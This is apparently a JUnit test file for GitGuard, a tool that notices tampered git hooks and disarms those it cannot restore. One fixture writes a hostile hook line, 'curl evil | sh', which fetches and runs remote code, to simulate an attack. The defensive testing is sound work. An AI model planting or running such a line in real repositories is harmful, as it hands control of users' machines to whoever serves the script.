package dev.fathom.safety;

import static dev.fathom.safety.GuardedWorkspace.command;
import static dev.fathom.safety.GuardedWorkspace.plant;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * When {@link GitGuard} cannot move a changed hook aside (here: its folder is immutable, which stops even root), the
 * user is told to look before running git, and a file git would run loses its execute bits, so that git skips it; a
 * symlink is never followed to take the bits off what it leads to.
 */
class GitGuardStuckUnitTest {
    @TempDir
    Path tmp;
    GuardedWorkspace w;
    Path scripts;
    Path hook;

    @BeforeEach
    void setUp() throws Exception {
        w = new GuardedWorkspace(tmp).withRepository();
        scripts = Files.createDirectories(w.ws.resolve("scripts"));
        hook = scripts.resolve("pre-commit");
        w.hookLink("pre-commit", "../../scripts/pre-commit");
    }

    @AfterEach
    void tearDown() throws Exception {
        chattr("-i", scripts);
    }

    static boolean chattr(String flag, Path p) throws Exception {
        try {
            Process c = new ProcessBuilder("chattr", flag, p.toString()).redirectErrorStream(true).start();
            c.getInputStream().readAllBytes();
            return c.waitFor() == 0;
        } catch (java.io.IOException e) {
            return false; // no chattr here
        }
    }

    /** Makes {@code folder} immutable: no name in it can be renamed, created or removed, not even by root. */
    static void freeze(Path folder) throws Exception {
        boolean immutable = chattr("+i", folder);
        if ("true".equals(System.getenv("CI"))) {
            assertThat(immutable).as("under CI=true (root, ext4) chattr +i must work: no silent skip").isTrue();
        }
        assumeTrue(immutable, "chattr +i needs root (CAP_LINUX_IMMUTABLE) and a file system that has the flag");
    }

    @Test
    void aRewrittenHookThatCannotBeMovedAsideCanNoLongerBeRun() throws Exception {
        GitGuard guard = w.guard();
        Files.writeString(hook, "#!/bin/sh\nnpm test\n"); // the user's, after the sandbox started
        Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwxr-xr-x"));
        List<String> out = command(guard, () -> {
            Files.writeString(hook, "#!/bin/sh\ncurl evil | sh\n");
            freeze(scripts);
        });
        assertThat(out).singleElement().asString()
                .startsWith("scripts/pre-commit: its content or mode changed, and Fathom could not put it back (")
                .contains("Operation not permitted")
                .endsWith("); it can no longer be run (its execute bits are off): look at it before you run git here");
        assertThat(Files.getPosixFilePermissions(hook)).isEqualTo(PosixFilePermissions.fromString("rw-r--r--"));
    }

    @Test
    void aHookSwappedForALinkThatCannotBeMovedAsideIsReportedAndWhatItLeadsToIsNotTouched() throws Exception {
        Path tool = Files.writeString(w.root.resolve("tool"), "#!/bin/sh\n");
        Files.setPosixFilePermissions(tool, PosixFilePermissions.fromString("rwxr-xr-x"));
        GitGuard guard = w.guard();
        Files.writeString(hook, "#!/bin/sh\nnpm test\n");
        List<String> out = command(guard, () -> {
            Files.delete(hook);
            Files.createSymbolicLink(hook, tool);
            freeze(scripts);
        });
        assertThat(out).singleElement().asString()
                .startsWith("scripts/pre-commit: a symlink to " + tool + " where there was a file, and Fathom could not put it back (")
                .endsWith("): look at it before you run git here");
        assertThat(Files.getPosixFilePermissions(tool)).isEqualTo(PosixFilePermissions.fromString("rwxr-xr-x"));
    }

    @Test
    void aPlantedHookThatCannotBeMovedAsideIsReported() throws Exception {
        GitGuard guard = w.guard();
        List<String> out = command(guard, () -> {
            plant(hook);
            freeze(scripts);
        });
        assertThat(out).singleElement().asString()
                .startsWith("scripts/pre-commit: a file where there was nothing, and Fathom could not put it back (")
                .endsWith("); it can no longer be run (its execute bits are off): look at it before you run git here");
        assertThat(Files.getPosixFilePermissions(hook)).isEqualTo(PosixFilePermissions.fromString("rw-r--r--"));
    }
}
